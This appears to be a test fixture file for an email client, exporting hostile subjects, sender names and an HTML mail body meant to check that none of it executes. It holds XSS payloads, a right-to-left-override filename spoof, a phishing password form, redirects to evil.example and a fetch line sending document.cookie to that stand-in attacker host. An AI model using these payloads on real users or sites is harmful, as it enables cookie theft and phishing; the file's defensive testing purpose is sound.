/** What an attacker writes into what they control. None of it may ever act. */
export const HOSTILE_SUBJECT = `<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script> "'><svg onload=window.__pwned=1>`;
export const HOSTILE_NAME = `"><script>window.__pwned=1</script>" <attacker@evil.example>`;
export const BIDI_SUBJECT = 'Invoice \u202egpj.exe\u202c \u0000\u0007 \u200b tail';
export const LONG_SUBJECT = `Re: ${'a subject without an end '.repeat(24)}`;
export const HOSTILE_HTML = `<!doctype html><html><head><style>body{background:#fff3f3;font-family:serif}</style>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="parent.__pwned=1;top.__pwned=1"><h1 style="color:#a00">You won &lt;everything&gt;</h1>
<script>parent.__pwned=1;top.__pwned=1;fetch('https://evil.example/'+document.cookie)</script>
<img src="https://evil.example/pixel.gif" onerror="top.__pwned=1" alt="pixel">
<p>Text of the mail, quite long, so that it can be read. Yours, the attacker.</p>
<a href="javascript:top.__pwned=1">press</a> <a href="https://evil.example/" target="_top">leave</a>
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<iframe src="https://evil.example/"></iframe></body></html>`;
